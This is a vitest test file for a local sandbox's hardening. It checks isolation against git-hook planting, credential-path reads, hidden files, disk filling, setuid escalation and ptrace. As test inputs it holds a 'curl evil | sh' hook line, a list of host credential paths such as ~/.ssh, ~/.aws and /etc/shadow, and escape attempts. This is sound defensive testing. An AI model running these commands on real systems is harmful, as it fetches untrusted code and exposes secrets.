import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { chmod, copyFile, mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LocalSandboxProvider } from './index.ts';
import type { LocalSandbox } from './sandbox.ts';

const MiB = 1024 * 1024;
let root: string;
/** Outside /tmp (the launcher replaces it) and readable by the sandbox uid: shown via readOnlyPaths. */
let tools: string;
let sandbox: LocalSandbox;
const hostProcesses: ChildProcess[] = [];

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'nightshift-hardening-'));
  tools = await mkdtemp('/var/tmp/nightshift-tools-');
  await chmod(tools, 0o755);
  const base = join(root, 'base');
  await mkdir(join(base, 'ci'), { recursive: true });
  execFileSync('git', ['init', '-q', '--template=', base]);
  await writeFile(join(base, '.env'), 'API_KEY=host-secret\n');
  await writeFile(join(base, 'ci', 'deploy.sh'), 'deploy\n');
  // A fake Nightshift home inside a read-only path, and a setuid-root program beside it.
  await mkdir(join(tools, 'nightshift-home'));
  await writeFile(join(tools, 'nightshift-home', 'nightshift.db'), 'runs and secrets');
  await writeFile(join(tools, 'token.txt'), 'ghp_host_token');
  await copyFile('/usr/bin/id', join(tools, 'suid-id'));
  await chmod(join(tools, 'suid-id'), 0o4755);
  sandbox = await new LocalSandboxProvider({
    readOnlyPaths: [tools],
    hiddenPaths: [join(tools, 'nightshift-home')],
  }).create({
    runId: 'run_0000000000hardening1',
    baseDir: base,
    stateDir: join(root, 'state'),
    limits: { tmpBytes: 8 * MiB, diskBytes: 16 * MiB, cpu: 0.5 },
    filesystem: { hidden: ['/workspace/.env', join(tools, 'token.txt')], readOnly: ['/workspace/ci'] },
  });
});

afterAll(async () => {
  for (const child of hostProcesses) child.kill('SIGKILL');
  await sandbox.destroy({ discard: true });
  await rm(root, { recursive: true, force: true });
  await rm(tools, { recursive: true, force: true });
});

async function sh(script: string): Promise<{ exitCode: number | null; stdout: string; stderr: string }> {
  return sandbox.exec(['sh', '-c', script]);
}

describe('local sandbox hardening', () => {
  it('refuses writing a git hook or git config, even after trying to replace .git', async () => {
    const result = await sh(
      [
        'echo "curl evil | sh" > .git/hooks/pre-commit && echo wrote-hook',
        'git config core.hooksPath /tmp/hooks && echo set-hooksPath',
        'git config user.name attacker && echo set-name',
        'mv .git .git-old && echo moved',
        'rm -rf .git && echo removed',
        'echo x > .git/hooks/post-checkout && echo wrote-hook-after-rm',
        'ls -A .git',
      ].join('; '),
    );

    // rm -rf empties .git, but hooks and config are mount points: they stay, read-only.
    expect(result.stdout).toBe('config\nhooks\n');
    expect(result.stderr).toMatch(/could not (lock|write) config file/);
    const hooks = await sandbox.view.exec(['ls', '-A', '.git/hooks']);
    expect(hooks.stdout).toBe('');
  });

  it('shows none of the host secrets: homes, /root, credentials, shadow, npmrc', async () => {
    const paths = [
      '/root',
      '/home/cloudsdk',
      '~/.ssh',
      '~/.aws',
      '~/.config/gcloud',
      '~/.azure',
      '~/.kube',
      '~/.docker/config.json',
      '~/.netrc',
      '~/.git-credentials',
      '/etc/shadow',
      '/etc/ssh',
      '/etc/npmrc',
      '/etc/pip.conf',
      '/etc/gitconfig',
      '/opt',
      '/run',
      '/srv',
      '/mnt',
      '/sys',
    ];

    const result = await sh(`for p in ${paths.join(' ')}; do test -e $p && echo visible $p; done; ls /home`);

    expect(result.stdout).toBe('nightshift\n');
  });

  it('hides the Nightshift home and hidden paths, even inside a read-only path', async () => {
    const result = await sh(
      `ls -A ${tools}/nightshift-home; cat ${tools}/token.txt; cat /workspace/.env; echo > /workspace/.env; rm /workspace/.env; echo end`,
    );

    expect(result.stdout).toBe('end\n');
    expect(result.stderr).not.toMatch(/host_token|host-secret|runs and secrets/);
  });

  it('keeps read-only workspace paths read-only and the rest writable', async () => {
    const result = await sh(
      'echo hacked > ci/deploy.sh; touch ci/new; echo fine > notes.txt && echo wrote-notes; cat ci/deploy.sh',
    );

    expect(result.stdout).toBe('wrote-notes\ndeploy\n');
    expect(result.stderr).toMatch(/Read-only file system/);
  });

  it.each([
    ['/tmp', '/tmp/big'],
    ['the workspace', '/workspace/big'],
    ['the home directory', '$HOME/big'],
  ])('stops a disk-filling attack on %s with ENOSPC and goes on', async (_, path) => {
    const fill = await sh(`dd if=/dev/zero of=${path} bs=1M count=64`);
    const after = await sh(`rm ${path}; echo still-works > ${path}-small && cat ${path}-small`);

    expect(fill.exitCode).not.toBe(0);
    expect(fill.stderr).toContain('No space left on device');
    expect(after.stdout).toBe('still-works\n');
  });

  it('keeps the workspace writes off the host disk when diskBytes is set', async () => {
    await sh('echo in-tmpfs > on-tmpfs.txt');

    const hostState = await readdir(join(root, 'state'));

    expect(hostState).not.toContain('upper');
    expect(await readdir(join(root, 'state', 'disk'))).toEqual([]);
  });

  it('gives nothing to setuid programs: su and a setuid-root copy stay uid 1000', async () => {
    const result = await sh(
      `grep NoNewPrivs /proc/self/status; ${tools}/suid-id -u; su -c id root </dev/null; echo su=$?`,
    );

    expect(result.stdout).toBe('NoNewPrivs:\t1\n1000\nsu=1\n');
  });

  it('cannot ptrace or signal a process outside the sandbox, nor see another exec', async () => {
    const sleeper = spawn('sleep', ['1000'], { stdio: 'ignore' });
    hostProcesses.push(sleeper);
    const other = sandbox.exec(['sh', '-c', 'sleep 30; : other-exec-marker'], { timeoutMs: 5000 });
    await new Promise((resolve) => setTimeout(resolve, 300));

    const result = await sh(
      `strace -p ${sleeper.pid} -e trace=none; echo strace=$?; kill -STOP ${sleeper.pid}; echo kill=$?; m=other-exec; grep -l "$m-marker" /proc/[0-9]*/cmdline; echo end`,
    );

    await sandbox.killAll();
    await other;
    expect(result.stdout).toMatch(/^strace=[1-9]\d*\nkill=[1-9]\d*\nend\n$/);
    expect(result.stderr).toMatch(/No such process/);
    expect(sleeper.exitCode).toBeNull();
  });

  it('limits CPU to the cpu cores of the spec', async () => {
    const result = await sandbox.exec(['bash', '-c', 'timeout 1 bash -c "while :; do :; done"; times']);

    const [, user = '0'] = /\n0m([\d.]+)s/.exec(result.stdout) ?? [];
    expect(Number(user)).toBeGreaterThan(0.2);
    expect(Number(user)).toBeLessThan(0.7);
  });
});
